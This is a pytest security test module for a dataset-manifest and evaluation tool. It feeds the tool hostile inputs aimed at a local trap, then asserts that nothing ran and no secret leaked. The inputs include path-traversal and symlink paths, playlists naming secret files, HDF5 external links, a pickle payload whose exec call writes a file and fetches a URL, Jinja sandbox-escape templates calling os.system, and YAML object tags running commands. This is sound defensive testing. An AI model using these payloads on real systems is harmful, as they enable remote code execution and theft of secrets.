"""What comes from others reaches nothing: no address is asked, no file beside the data is read.

Each test gives a command something hostile that names a secret file and a listening address. Then
nobody called, nothing ran, and the secret is in no output, page or table.
"""

from __future__ import annotations

import base64
import json
import pickle
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from nontrivial.builders import embed, qa_invert
from nontrivial.eval import qa
from nontrivial.manifests.__main__ import main as manifests
from nontrivial.manifests.parquet import write_table
from nontrivial.manifests.schema import samples_table
from tests.eval.test_client import Server, http
from tests.media_files import write_clip, write_image
from tests.rows import media, reid_pair, video_question

SECRET = "the-secret-7f3a91"
THUMBNAIL = "/9j/"  # how a JPEG of a page begins
KEY = "sk-the-key-52c0de"
CONTRACT = ("validate", "stats", "show", "card", "gallery")


@dataclass
class Trap:
    """A working directory `here`, secrets beside it, and an address that counts its callers."""

    here: Path
    listening: socket.socket
    calls: list[str] = field(default_factory=list)
    shown: str = ""

    def __post_init__(self) -> None:
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        with suppress(OSError):
            while True:
                connection, address = self.listening.accept()
                self.calls.append(str(address))
                connection.close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.listening.getsockname()[1]}"

    @property
    def secrets(self) -> Path:
        return self.here.parent / "secrets"

    @property
    def ran(self) -> Path:
        """A file that code from outside would write."""
        return self.here.parent / "ran"

    def places(self, name: str) -> list[str]:
        """All ways to name a secret, and the address."""
        path = self.secrets / name
        ways = [f"../../secrets/{name}", f"x/../../../secrets/{name}", str(path), f"file://{path}"]
        return [*ways, f"linked/{name}", f"{self.url}/{name}", f"concat:{path}", f"subfile:{path}"]

    def check(self, shown: str) -> None:
        """Nobody called, nothing ran, nothing was shown or written."""
        assert self.calls == []
        assert not self.ran.exists()
        photo = (self.secrets / "photo.png").read_bytes()
        told = [SECRET.encode(), KEY.encode(), photo, base64.b64encode(photo)]
        written = {file: file.read_bytes() for file in self.here.rglob("*") if file.is_file()}
        for where, data in {"output": shown.encode(), **written}.items():
            if isinstance(where, Path) and where.resolve().is_relative_to(self.secrets):
                continue
            assert not any(secret in data for secret in told), where


@pytest.fixture
def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd) -> Iterator[Trap]:
    here = tmp_path / "here"
    (here / "data").mkdir(parents=True)
    monkeypatch.chdir(here)
    monkeypatch.setenv("NONTRIVIAL_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    made = Trap(here, socket.create_server(("127.0.0.1", 0)))
    write_image(made.secrets / "photo.png", seed=9)
    write_clip(made.secrets / "clip.mp4")
    for name in ("note.txt", "note.json", "note.yaml", "note.csv", "note.jinja"):
        (made.secrets / name).write_text(json.dumps([SECRET]))
    (here / "data" / "linked").symlink_to(made.secrets)
    yield made
    made.listening.close()
    shown = capfd.readouterr()
    assert "Traceback" not in shown.err
    made.check(shown.out + shown.err)


def test_the_trap_is_set(tmp_path, monkeypatch, capfd):
    """A caller, a file that code wrote, or the secret in a page would be noticed."""
    here = tmp_path / "here"
    here.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        made = Trap(here, listening)
        write_image(made.secrets / "photo.png", seed=9)
        made.check("")
        for output in (SECRET, f"x {KEY}"):
            with pytest.raises(AssertionError, match="output"):
                made.check(output)
        (here / "page.html").write_bytes(
            base64.b64encode((made.secrets / "photo.png").read_bytes())
        )
        with pytest.raises(AssertionError, match=r"page\.html"):
            made.check("")
        (here / "page.html").unlink()
        with socket.create_connection(listening.getsockname()[:2]) as caller:
            caller.recv(1)
        with pytest.raises(AssertionError):
            made.check("")


def contract(trap: Trap, rows: list[dict], root: object) -> str:
    """Write rows as they are, give them to each command of the contract; return the gallery."""
    path = trap.here / "m.parquet"
    write_table(samples_table(rows), path, {"media_root": root, "builder": "tests"})
    ends = {action: manifests([action, str(path)]) for action in CONTRACT}
    assert set(ends.values()) <= {0, 2}
    return (trap.here / "gallery.html").read_text(encoding="utf-8") if not ends["gallery"] else ""


def test_a_manifest_that_names_files_and_addresses(trap):
    pairs = [
        reid_pair(f"pair{n}", images=[media(path), media(path)])
        for n, path in enumerate(trap.places("photo.png"))
    ]
    clips = [
        video_question(f"clip{n}", videos=[media(path)])
        for n, path in enumerate(trap.places("clip.mp4"))
    ]
    shown = 0
    for row in [*pairs, *clips]:
        for root in (str(trap.here / "data"), str(trap.secrets), "..", trap.url):
            page = contract(trap, [row], root)
            assert THUMBNAIL not in page
            shown += bool(page)
    assert shown, "no page was made at all"


def test_a_clip_that_names_files_and_addresses(trap):
    clip, text = trap.secrets / "clip.mp4", trap.secrets / "note.txt"
    scripts = [
        f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{trap.url}/x.mp4\n",
        f"#EXTM3U\n#EXTINF:1,\nfile://{clip}\n",
        f"ffconcat version 1.0\nfile {clip}\n",
        f"ffconcat version 1.0\nfile {text}\n",
        f"<?xml version='1.0'?><MPD><Period><BaseURL>{trap.url}</BaseURL></Period></MPD>",
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {trap.url[-5:]} RTP 96\n",
        f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{trap.url}'/></svg>",
    ]
    rows = []
    for number, script in enumerate(scripts):
        (trap.here / "data" / f"{number}.mp4").write_text(script)
        rows += [
            video_question(f"by path {number}", videos=[media(f"{number}.mp4")]),
            video_question(f"embedded {number}", videos=[media("x.mp4", script.encode())]),
            reid_pair(f"image {number}", images=[media(f"{number}.mp4")] * 2),
            reid_pair(f"inside {number}", images=[media("x.png", script.encode())] * 2),
        ]
    page = contract(trap, rows, str(trap.here / "data"))
    assert "embedded 0" in page
    assert THUMBNAIL not in page


@pytest.mark.parametrize("form", ["csv", "json", "jsonl", "parquet"])
def test_a_table_of_questions_that_names_files_and_addresses(trap, form):
    import polars as pl

    table = trap.here / f"questions.{form}"
    places = [*trap.places("clip.mp4"), *trap.places("note.txt"), "inside.mp4"]
    columns = {"question": "What fell?", "A": "a cup", "B": "a hat", "C": "a box", "answer": "B"}
    rows = [{"id": str(n), "video": place, **columns} for n, place in enumerate(places)]
    if form == "jsonl":
        table.write_text("\n".join(map(json.dumps, rows)))
    elif form == "json":
        table.write_text(json.dumps(rows))
    else:
        frame = pl.DataFrame(rows)
        (frame.write_csv if form == "csv" else frame.write_parquet)(table)
    words = ["--bench", "table", "--annotations", str(table), "--max_bad", "1", "--ratio", "1"]
    assert qa_invert.main([*words, "--root", "data", "--out", "out"]) == 0
    made = trap.here / "out" / "table_qa_invert.parquet"
    assert manifests(["gallery", str(made)]) == 0
    pages = [page.read_text(encoding="utf-8") for page in trap.here.rglob("*.html")]
    assert pages
    assert not any(THUMBNAIL in page for page in pages)


def test_a_table_of_people_that_names_files_and_addresses(trap, capfd):
    for place in trap.places("photo.png"):
        (trap.here / "people.csv").write_text(f"path,pid,camid\n{place},1,1\n")
        words = ["--source", "table=people.csv", "--encoder", "stripes", "--root", "data"]
        assert embed.main([*words, "--out", "out"]) == 2
    assert "leads outside its root" in capfd.readouterr().err
    assert not list((trap.here / "out").glob("**/*.parquet"))


def test_a_list_of_described_people_that_names_files(trap):
    for place in trap.places("photo.png"):
        entry = {"split": "train", "id": 1, "file_path": f"../{place}", "captions": ["A man."]}
        (trap.here / "data" / "CUHK-PEDES").mkdir(exist_ok=True)
        (trap.here / "data" / "CUHK-PEDES" / "reid_raw.json").write_text(json.dumps([entry]))
        words = ["--source", "cuhk_pedes", "--encoder", "stripes", "--root", "data"]
        assert embed.main([*words, "--out", "out"]) == 2


def hdf5_beside(trap: Trap, file: Path, way: str) -> None:
    """A `cuhk-03.mat` whose images would come from another file."""
    h5py = pytest.importorskip("h5py", reason="h5py reads CUHK03's .mat file: pip install h5py")
    secret = trap.secrets / "note.txt"
    size = secret.stat().st_size
    with h5py.File(trap.secrets / "other.h5", "w") as other:
        other["pixels"] = [[[ord(letter)] * 3 for letter in SECRET]]
    with h5py.File(file, "w") as opened:
        if way == "link":
            opened["detected"] = h5py.ExternalLink(str(trap.secrets / "other.h5"), "pixels")
            return
        if way == "bytes":
            outside = [(str(secret), 0, size)]
            crop = opened.create_dataset("crop", (3, 1, size // 3), "u1", external=outside)
        else:
            layout = h5py.VirtualLayout((1, len(SECRET), 3), "i8")
            layout[:] = h5py.VirtualSource(
                str(trap.secrets / "other.h5"), "pixels", (1, len(SECRET), 3)
            )
            crop = opened.create_virtual_dataset("crop", layout)
        cells = opened.create_dataset("cells", (10, 1), h5py.ref_dtype)
        cells[0, 0] = crop.ref
        pairs = opened.create_dataset("detected", (1, 1), h5py.ref_dtype)
        pairs[0, 0] = cells.ref


@pytest.mark.parametrize("way", ["link", "bytes", "virtual"])
def test_a_matlab_file_that_reads_another_file(trap, way, capfd):
    from scipy.io import savemat

    folder = trap.here / "data" / "cuhk03"
    folder.mkdir()
    hdf5_beside(trap, folder / "cuhk-03.mat", way)
    one = {"labels": [[1]], "train_idx": [[1]], "query_idx": [[1]], "gallery_idx": [[1]]}
    one |= {"filelist": np.array([["1_001_1_01.png"]], object)}
    savemat(folder / "cuhk03_new_protocol_config_detected.mat", one)
    words = ["--source", "cuhk03", "--encoder", "stripes", "--root", "data", "--out", "out"]
    assert embed.main(words) == 2
    assert "is no data set of this file" in capfd.readouterr().err
    assert not list(folder.glob("**/*.png"))


class Bomb:
    """Writes a file and calls an address where it is unpickled."""

    def __init__(self, trap: Trap) -> None:
        self.code = (
            f"open({str(trap.ran)!r}, 'w'); import urllib.request as u; u.urlopen('{trap.url}')"
        )

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return exec, (self.code,)


@pytest.mark.parametrize("form", ["torch", "pickle"])
def test_weights_that_run_code(trap, form, capfd):
    import torch

    write_image(trap.here / "data" / "0001_c1.jpg")
    file = trap.here / "weights.pth"
    if form == "torch":
        torch.save({"state_dict": Bomb(trap)}, file)
    else:
        file.write_bytes(pickle.dumps(Bomb(trap)))
    words = ["--source", r"folder=(?P<pid>\d+)_c(?P<camid>\d).*", "--root", "data"]
    assert embed.main([*words, "--encoder", f"osnet_x0_25={file}", "--out", "out"]) == 2
    assert "cannot be read as tensors only" in capfd.readouterr().err


CODE = "{{ cycler.__init__.__globals__['os'].system('touch RAN') }}"
TEMPLATES = {
    "globals": CODE,
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}" + CODE,
    "include": "{% include 'SECRETS/note.jinja' %}",
    "import": "{% import 'SECRETS/note.jinja' as note %}{{ note }}",
    "format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}" + CODE,
    "messages": "{{ messages.append.__self__.__class__ }}" + CODE,
}


@pytest.fixture
def policy(trap: Trap, tiny_policy_dir: Path) -> Path:
    """A policy that came from outside, and a question to it in `m.parquet`."""
    for n in (0, 1):
        write_image(trap.here / "data" / f"{n}.jpg", seed=n)
    row = reid_pair(images=[media("0.jpg"), media("1.jpg")], split="test")
    write_table(samples_table([row]), trap.here / "m.parquet", {"media_root": "data"})
    return Path(shutil.copytree(tiny_policy_dir, trap.here / "policy"))


def ask(*words: str) -> int:
    return qa.main(["m.parquet", "--out", "out", "--max_new_tokens", "2", *words])


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_chat_template_that_reaches_out(trap, policy, name):
    text = TEMPLATES[name].replace("RAN", str(trap.ran)).replace("SECRETS", str(trap.secrets))
    (policy / "chat_template.jinja").write_text(text)
    assert ask("--model_name_or_path", str(policy)) == 2


def test_a_policy_that_brings_code(trap, policy):
    (policy / "modeling_x.py").write_text(Bomb(trap).code)
    for name in ("config.json", "processor_config.json", "tokenizer_config.json"):
        if (policy / name).is_file():
            known = json.loads((policy / name).read_text())
            names = dict.fromkeys(("AutoConfig", "AutoModel", "AutoProcessor"), "modeling_x.X")
            names |= {"AutoTokenizer": ["modeling_x.X", None]}
            (policy / name).write_text(json.dumps(known | {"auto_map": names}))
    assert ask("--model_name_or_path", str(policy)) in (0, 2)


def test_a_policy_whose_weights_run_code(trap, policy):
    import torch

    (policy / "model.safetensors").unlink()
    torch.save(Bomb(trap), policy / "pytorch_model.bin")
    assert ask("--model_name_or_path", str(policy)) == 2


@pytest.mark.parametrize(
    "text",
    [
        "root: !!python/object/apply:os.system ['touch RAN']",
        "root: !!python/object/new:exec [\"open('RAN', 'w')\"]",
        "root: !include SECRETS/note.yaml",
        "root: &a data\nout: *a",
        "<<: {root: !!python/name:os.system }",
        "root: !!binary fn4=",
    ],
)
def test_a_configuration_with_tags(trap, text):
    text = text.replace("RAN", str(trap.ran)).replace("SECRETS", str(trap.secrets))
    (trap.here / "c.yaml").write_text(text)
    for command, words in ((qa_invert, ["--bench", "table"]), (embed, [])):
        try:
            end = command.main(["--config", "c.yaml", *words])
        except SystemExit as stopped:
            end = stopped.code
        assert end == 2


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_server_that_leads_elsewhere(trap, policy, status):
    for place in (trap.url, f"file://{trap.secrets / 'note.json'}", "//127.0.0.1/x"):
        server = Server(lambda c, _, to=place: c.sendall(http(status, b"", f"Location: {to}/v1")))
        words = ["--server", server.url, "--model_name_or_path", "x"]
        assert ask(*words) == 1
        server.listening.close()
        assert all(KEY in head for head in server.requests), "the named host alone gets the key"
        assert server.requests
